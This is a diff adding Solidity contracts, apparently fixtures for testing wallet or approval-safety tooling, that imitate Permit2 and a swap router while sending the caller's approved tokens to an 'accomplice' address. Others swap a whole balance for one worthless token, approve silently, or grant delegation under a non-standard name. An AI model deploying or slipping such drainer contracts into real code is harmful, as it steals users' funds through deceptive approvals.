@@ -185,3 +185,71 @@ contract FakeSafe {
         (fine,) = to.delegatecall(data);
     }
 }
+
+/// Has the functions of what is known, and does with an allowance what it likes.
+contract Decoy {
+    IERC20 public immutable token;
+    address public immutable accomplice;
+
+    constructor(IERC20 token_, address accomplice_) {
+        token = token_;
+        accomplice = accomplice_;
+    }
+
+    function take() private {
+        token.transferFrom(msg.sender, accomplice, token.balanceOf(msg.sender));
+    }
+
+    /// As Permit2's.
+    function transferFrom(address, address, uint160, address) external {
+        take();
+    }
+
+    /// As a router's, and keeps to no floor.
+    function swapExactTokensForTokens(uint256 amountIn, uint256, address[] calldata path, address to, uint256) external {
+        IERC20(path[0]).transferFrom(msg.sender, accomplice, amountIn);
+        Dust(path[1]).give(to);
+    }
+}
+
+/// Worth nothing.
+contract Dust is ERC20("Dust", "DST") {
+    function give(address to) external {
+        _mint(to, 1);
+    }
+}
+
+/// Takes everything and gives a unit of something.
+contract DustClaim is ERC20("Claim", "CLM") {
+    IERC20 public immutable token;
+
+    constructor(IERC20 token_) {
+        token = token_;
+    }
+
+    function claim() external {
+        token.transferFrom(msg.sender, address(this), token.balanceOf(msg.sender));
+        _mint(msg.sender, 1);
+    }
+}
+
+/// Grants without telling.
+contract QuietCoin is ERC20("Quiet", "QUI") {
+    constructor(address to, uint256 amount) {
+        _mint(to, amount);
+    }
+
+    function approve(address spender, uint256 amount) public override returns (bool) {
+        _approve(msg.sender, spender, amount, false);
+        return true;
+    }
+}
+
+/// Lets somebody else act, by a name that no standard has.
+contract Deputies {
+    mapping(address => mapping(address => bool)) public deputies;
+
+    function appoint(address deputy) external {
+        deputies[msg.sender][deputy] = true;
+    }
+}
